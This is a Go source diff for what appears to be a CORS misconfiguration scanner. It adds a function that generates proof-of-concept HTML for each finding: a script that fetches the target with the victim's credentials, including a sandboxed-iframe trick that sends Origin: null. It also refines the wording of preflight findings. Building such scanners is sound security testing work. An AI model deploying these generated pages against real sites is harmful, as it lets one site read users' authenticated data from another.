@@ -4,7 +4,9 @@ import (
 	"bytes"
 	"crypto/sha256"
 	"encoding/hex"
+	"encoding/json"
 	"fmt"
+	"html"
 	"mime"
 	"net/http"
 	"net/netip"
@@ -117,7 +119,28 @@ func (r *run) acceptance(res *result, browsers []string, hsts stsPolicy, private
 		b.WriteString(" " + extra)
 	}
 	b.WriteString(" " + classes[p.class].help)
-	return r.finding(p.class, sev, res, b.String(), creds, browsers)
+	f := r.finding(p.class, sev, res, b.String(), creds, browsers)
+	f.PoC = poc(p.origin, res.req.Method, res.req.URL.String(), creds)
+	return f
+}
+
+// poc returns a page that, served from origin (or, for null, from anywhere),
+// reads the target with the victim's browser.
+func poc(origin, method, target string, creds bool) string {
+	mode := "omit"
+	if creds {
+		mode = "include"
+	}
+	u, _ := json.Marshal(target) // a JavaScript string literal
+	m, _ := json.Marshal(method)
+	script := fmt.Sprintf("fetch(%s,{method:%s,credentials:%q}).then(r=>r.text()).then(t=>", u, m, mode)
+	if origin == "null" {
+		inner := "<script>" + script + "parent.postMessage(t,'*'))</script>"
+		return "<!-- Serve from any site: the sandboxed frame sends Origin: null. -->\n" +
+			"<iframe sandbox=\"allow-scripts\" srcdoc=\"" + html.EscapeString(inner) + "\"></iframe>\n" +
+			"<pre id=out></pre><script>onmessage=e=>{out.textContent=e.data}</script>\n"
+	}
+	return "<!-- Serve from " + origin + " -->\n<pre id=out></pre>\n<script>" + script + "{out.textContent=t})</script>\n"
 }
 
 // specialChars folds the special-character probes the server accepted
@@ -251,16 +274,18 @@ func (r *run) preflight() {
 		if verdict != "" {
 			s = Info
 		}
-		r.add(PreflightReflectsMethod, s, res, fmt.Sprintf("A preflight from %s, %s, asking for the invented method %s got Access-Control-Allow-Methods: %s. Browser verdict: %s.",
+		r.add(PreflightReflectsMethod, s, res, fmt.Sprintf("A preflight from %s, %s, asking for the invented method %s got Access-Control-Allow-Methods: %s. Browser verdict for that method: %s.",
 			p.origin, who, p.reqMethod, res.header.Get("Access-Control-Allow-Methods"), orAllowed(verdict)), creds)
+		r.findings[len(r.findings)-1].Evidence.Verdict = orAllowed(verdict)
 	}
 	if contains(tokens(res.header.Values("Access-Control-Allow-Headers")), p.reqHeader, true) {
 		s, verdict := sev, checkPreflight(p.origin, creds, http.MethodGet, []string{p.reqHeader}, res.status, res.header)
 		if verdict != "" {
 			s = Info
 		}
-		r.add(PreflightReflectsHeaders, s, res, fmt.Sprintf("A preflight from %s, %s, asking for the invented header %s got Access-Control-Allow-Headers: %s. Browser verdict: %s.",
+		r.add(PreflightReflectsHeaders, s, res, fmt.Sprintf("A preflight from %s, %s, asking for the invented header %s got Access-Control-Allow-Headers: %s. Browser verdict for that header: %s.",
 			p.origin, who, p.reqHeader, res.header.Get("Access-Control-Allow-Headers"), orAllowed(verdict)), creds)
+		r.findings[len(r.findings)-1].Evidence.Verdict = orAllowed(verdict)
 	}
 }
 
